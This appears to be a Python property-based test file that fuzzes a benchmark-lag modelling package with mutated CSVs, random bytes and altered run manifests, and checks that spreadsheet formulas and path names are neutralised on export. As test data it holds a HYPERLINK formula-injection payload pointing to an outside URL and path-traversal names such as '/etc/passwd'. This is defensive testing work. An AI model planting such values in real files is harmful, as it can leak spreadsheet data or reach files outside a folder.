"""Random and mutated input: a result or one of our own errors; and text that survives the way out and back."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gapmodel.errors import ConfigError, DataError, GapmodelError, InsufficientDataError
from gapmodel.files.safe_csv import FORMULA_STARTS, csv_table, csv_text, neutral, restored
from gapmodel.lags.panel import compute_lags
from gapmodel.runs.lag_files import write_lags
from gapmodel.runs.reader import read_run
from gapmodel.scores.groups import parse_group
from gapmodel.scores.table import Scores, validate_scores
from gapmodel.sources.csv import parse_table
from tests.support.runs import make_run

TODAY = date(2026, 8, 1)
SLOW = [HealthCheck.too_slow, HealthCheck.data_too_large]

# --- the reader -------------------------------------------------------------------------------------------------------

HEADER = "benchmark,model,release_date,weights,score,weights_date,organization,score_se,variant"
ROWS = (
    "maths,Alder-1,2024-03-04,closed,0.62,,Alder Lab,0.01,",
    "maths,Birch-7B,2024-09-10,open,0.60,2024-09-10,Birch,,low",
    "maths,Birch-7B,2024-09-10,open,0.66,2024-09-10,Birch,,high",
    'reading,"Cedar, large",2025-01-05,open,0.5,2025-02-01,,0.02,',
    "reading,Alder-1,2024-03-04,closed,8.1e-1,,Alder Lab,,",
)
ABOUT = ("benchmark,title,direction,lower_bound,ceiling,default_set", "maths,Maths,higher,0,1,true", "reading,,,,1,")

NASTY = st.sampled_from(
    (
        *("", " ", ",", ";", '"', '""', "'", "\n", "\r", "\r\n", "\t", "\0", "\ufeff", "\x85", "\u2028", "\udc80"),
        *("=1+1", "@x", "-", "+", "nan", "NaN", "inf", "-inf", "1e400", "-0", "0x1", "1_0", "1,5", "٣", "½", "²"),
        *("0000-00-00", "2024-02-30", "9999-12-31", "1677-09-21", "2262-04-12", "2024-1-1", "true", "open", "lower"),
        *("benchmark", "model", "line", "index", "level_0", "NA", "None", "../x", "a" * 5000, "é", "模型"),
    )
)


def mutated(lines):
    """A valid file with a few bytes, cells or lines changed."""
    text = "\n".join(lines) + "\n"

    @st.composite
    def build(draw):
        content = text
        for _ in range(draw(st.integers(1, 4))):
            kind = draw(st.sampled_from(["slice", "cell", "drop", "twice", "swap"]))
            rows = content.split("\n")
            k = draw(st.integers(0, len(rows) - 1))
            if kind == "slice":
                start = draw(st.integers(0, len(content)))
                end = min(len(content), start + draw(st.integers(0, 12)))
                content = content[:start] + draw(NASTY | st.text(max_size=4)) + content[end:]
                continue
            if kind == "cell":
                cells = rows[k].split(",")
                cells[draw(st.integers(0, len(cells) - 1))] = draw(NASTY | st.text(max_size=6))
                rows[k] = ",".join(cells)
            elif kind == "drop":
                del rows[k]
            elif kind == "twice":
                rows.insert(k, rows[k])
            else:
                other = draw(st.integers(0, len(rows) - 1))
                rows[k], rows[other] = rows[other], rows[k]
            content = "\n".join(rows)
        return content.encode("utf-8", "surrogateescape" if draw(st.booleans()) else "replace")

    return build()


def scores_or_error(content: bytes, about: bytes | None = None) -> Scores | None:
    try:
        info = None if about is None else parse_table(about, "benchmarks.csv")
        return validate_scores(parse_table(content, "scores.csv"), info, today=TODAY, file="scores.csv")
    except DataError as error:
        assert any(name in str(error) for name in ("scores", "benchmarks"))
        assert len(str(error).splitlines()) <= 22
        return None


def check_scores(scores: Scores) -> None:
    table = scores.table
    assert np.isfinite(table["score"]).all()
    assert table["release_date"].notna().all()
    assert (table["release_date"] <= pd.Timestamp(TODAY)).all()
    assert set(table["weights"]) <= {"open", "closed"}
    assert set(table["benchmark"]) == set(scores.benchmarks.index)


@settings(deadline=None, max_examples=150, suppress_health_check=SLOW)
@given(content=mutated([HEADER, *ROWS]))
def test_a_mutated_scores_file_is_read_or_refused(content):
    scores = scores_or_error(content)
    if scores is not None:
        check_scores(scores)


@settings(deadline=None, max_examples=60, suppress_health_check=SLOW)
@given(content=mutated([HEADER, *ROWS]), about=mutated(ABOUT))
def test_mutated_files_together(content, about):
    for one in (content, "\n".join([HEADER, *ROWS]).encode()):
        scores = scores_or_error(one, about)
        if scores is not None:
            check_scores(scores)


@settings(deadline=None, max_examples=150)
@given(content=st.binary(max_size=200))
def test_random_bytes_are_read_or_refused(content):
    for prefix in (b"", b"\xef\xbb\xbf", HEADER.encode() + b"\n"):
        scores_or_error(prefix + content)


def test_the_unmutated_files_are_valid():
    scores = scores_or_error("\n".join([HEADER, *ROWS]).encode(), "\n".join(ABOUT).encode())
    assert scores is not None
    assert len(scores.table) == len(ROWS)


# --- the lag engine ---------------------------------------------------------------------------------------------------

FIRST = date(2023, 12, 28)


@st.composite
def tables(draw):
    """Scores of a few models on up to three benchmarks: ties, one-day histories, missing groups, floors, directions."""
    names = ["a", "b", "c"][: draw(st.integers(1, 3))]
    levels = draw(st.sampled_from([(0.0, 0.5, 1.0), (-1.0, 0.0, 1e-12, 1.0), (1e-300, 1e300), (3.0,)]))
    span = draw(st.sampled_from([0, 3, 40, 900]))
    rows = []
    for k in range(draw(st.integers(1, 10))):
        day = FIRST + timedelta(days=draw(st.integers(0, span)))
        weights = draw(st.sampled_from(["open", "closed"]))
        later = day + timedelta(days=draw(st.sampled_from([0, 1, 45]))) if weights == "open" else None
        rows += [
            {"benchmark": name, "model": f"m{k}", "release_date": day, "weights": weights, "weights_date": later,
             "score": draw(st.sampled_from(levels))}
            for name in names
            if draw(st.integers(0, 3))
        ]  # fmt: skip
    about = pd.DataFrame(
        {
            "benchmark": names,
            "direction": [draw(st.sampled_from(["higher", "lower"])) for _ in names],
            "lower_bound": [draw(st.sampled_from([None, None, 0.0])) for _ in names],
        }
    )
    return pd.DataFrame(rows), about


@settings(deadline=None, max_examples=120, suppress_health_check=SLOW)
@given(
    tables=tables(),
    cutoff=st.none() | st.dates(date(2023, 12, 1), date(2026, 12, 31)),
    since=st.none() | st.dates(date(2023, 1, 1), date(2026, 12, 31)),
    grace=st.integers(0, 40),
    tolerance=st.sampled_from([0.0, 0.0, 0.05, 0.9]),
)
def test_the_lag_engine_never_crashes_and_its_lags_are_finite(tables, cutoff, since, grace, tolerance):
    frame, about = tables
    if frame.empty:
        return
    scores = validate_scores(frame, about, today=date(2027, 1, 1))
    try:
        result = compute_lags(scores, cutoff=cutoff, first_month=since, grace_months=grace, tolerance=tolerance)
    except InsufficientDataError as error:
        assert str(error).strip()
        return
    panel = result.panel
    observed, censored = panel["observed"].to_numpy(), panel["censoring"].to_numpy() != 0
    inside, lag = panel["in_window"].to_numpy(), panel["lag"].to_numpy()
    assert set(np.unique(panel["censoring"])) <= {-1, 0, 1}
    assert (censored <= observed).all()
    assert (observed <= inside).all()
    assert np.isfinite(lag[observed]).all()
    assert np.isnan(lag[~observed]).all()
    assert (np.abs(lag[observed]) <= 12 * 5).all(), "no two days are five years apart"
    for table, column in ((result.release, "lag_months"), (result.catch_up, "months")):
        assert np.isfinite(table[column]).all()


@settings(deadline=None, max_examples=200)
@given(text=st.text(alphabet="weightsopnclod=|&! ,", max_size=30) | st.text(max_size=20))
def test_a_group_is_read_or_refused(text):
    try:
        group = parse_group(text)
    except ConfigError as error:
        assert "write column=value" in str(error)
    else:
        assert all(column and values for column, values, _ in group.conditions)


# --- the files of a run -----------------------------------------------------------------------------------------------

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)
KEYS = ("run_id", "files", "data", "sampler", "variant")


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    return make_run(tmp_path_factory.mktemp("made") / "run", n_benchmarks=3)


@settings(deadline=None, max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(changes=st.dictionaries(st.sampled_from(KEYS), JSON, max_size=3), cut=st.none() | st.integers(0, 400))
def test_a_manifest_of_any_content_is_read_or_refused(made, tmp_path, changes, cut):
    for name in ("summary.json", "checks.json"):
        (tmp_path / name).write_bytes((made / name).read_bytes())
    text = json.dumps(json.loads((made / "manifest.json").read_text()) | changes)
    (tmp_path / "manifest.json").write_text(text[:cut])
    try:
        saved = read_run(tmp_path)
    except DataError as error:
        assert "run it again" in str(error)
    else:
        assert cut is None or cut >= len(text)
        assert saved.summary == json.loads((made / "summary.json").read_text())


# --- text on its way into CSV and back --------------------------------------------------------------------------------

# What cells hold: no lone surrogate can be written, and a NUL is refused when it is read.
TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=8)
RISKY = st.builds("".join, st.tuples(st.sampled_from(["", "'", "''"]), st.sampled_from(FORMULA_STARTS), TEXT))


def runs_in_a_spreadsheet(cell: str) -> bool:
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return "_" in cell


@settings(deadline=None, max_examples=300)
@given(
    cells=st.lists(TEXT | RISKY | st.sampled_from(["-1.5", "+3", "NA", "nan", "007", "True", "1e5", ""]), min_size=1)
)
def test_no_cell_runs_and_every_text_comes_back(cells):
    table = pd.DataFrame({"model": cells, "value": np.linspace(-1, 1, len(cells)), "note": [*cells[1:], None]})
    text = csv_text(table, digits=17)
    written = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len(written) == len(cells) + 1
    assert not any(runs_in_a_spreadsheet(row[k]) for row in written for k in (0, 2))
    back = csv_table(text.encode())
    for name in ("model", "note"):
        wanted = [None if pd.isna(cell) or cell == "" else cell for cell in table[name]]
        assert [None if pd.isna(cell) else cell for cell in back[name]] == wanted
    assert back["value"].tolist() == table["value"].tolist()


@given(cell=TEXT | RISKY)
def test_neutral_text_is_restored(cell):
    assert restored(neutral(cell)) == cell


def test_numbers_and_dates_are_written_as_they_are():
    table = pd.DataFrame(
        {
            "=name": ["=1+1", "-5", "x"],
            "x": [-1.5, np.nan, np.inf],
            "n": [-1, 0, 1],
            "day": pd.to_datetime(["2024-01-31"] * 3),
        }
    )
    assert csv_text(table) == "'=name,x,n,day\n'=1+1,-1.5,-1,2024-01-31\n-5,,0,2024-01-31\nx,inf,1,2024-01-31\n"
    assert csv_table(csv_text(table).encode()).columns.tolist() == ["=name", "x", "n", "day"]


FORMULA = '=HYPERLINK("http://example.org?"&A1,"see")'
NAMES = ("../../outside", "/etc/passwd", "C:\\x", "a/b", "..", "NA", "007", "-1", FORMULA, "@SUM(A1)", "+x", "\xe9 x")


def test_names_from_data_are_neither_paths_nor_formulas_nor_numbers(tmp_path):
    """Every kind of name, as benchmark and as model, through the lags and back."""
    rows = [
        {"benchmark": name, "model": f"{name} {k}", "release_date": FIRST + timedelta(days=40 * k),
         "weights": ("closed", "open")[k % 2], "score": k / 10}
        for name in NAMES
        for k in range(9)
    ]  # fmt: skip
    result = compute_lags(validate_scores(pd.DataFrame(rows), today=TODAY))
    folder = tmp_path / "deep" / "lags"
    files = write_lags(result, folder)
    assert {p for p in tmp_path.rglob("*") if p.is_file()} == set(files)
    tables = {f"{name}.csv" for name in ("lags", "release", "catch_up", "frontiers", "skipped")}
    assert {p.name for p in files} == tables | {"lags.nc"}
    back = csv_table((folder / "lags.csv").read_bytes())
    assert set(back["benchmark"]) == set(NAMES)
    assert set(back["leader_model"]) <= {row["model"] for row in rows}
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as stream:
            assert not any(runs_in_a_spreadsheet(cell) for row in csv.reader(stream) for cell in row), path.name


def test_a_run_with_formulas_for_names_is_reported_under_its_own_names(tmp_path):
    from gapmodel.report import build_page, read_page_data

    folder = make_run(tmp_path / "run", titles={0: FORMULA, 1: "@SUM(A1)", 2: "007"}, models={0: "-2+3", 1: "NA"})
    saved = read_run(folder)
    assert set(saved.table("per_benchmark.csv")["title"]) >= {FORMULA, "@SUM(A1)", "007"}
    page = build_page(read_page_data(saved))
    assert "@SUM(A1)" in page
    assert "&#x27;@SUM(A1)" not in page
    assert "'@SUM(A1)" not in page
    assert f",'{FORMULA[:5]}" in (folder / "lags.csv").read_text().replace('"', "")


def test_errors_of_ours_are_the_only_ones_that_say_how_to_fix():
    assert issubclass(DataError, GapmodelError)
    assert not issubclass(GapmodelError, ValueError), "an `except ValueError` around a read must not hide them"
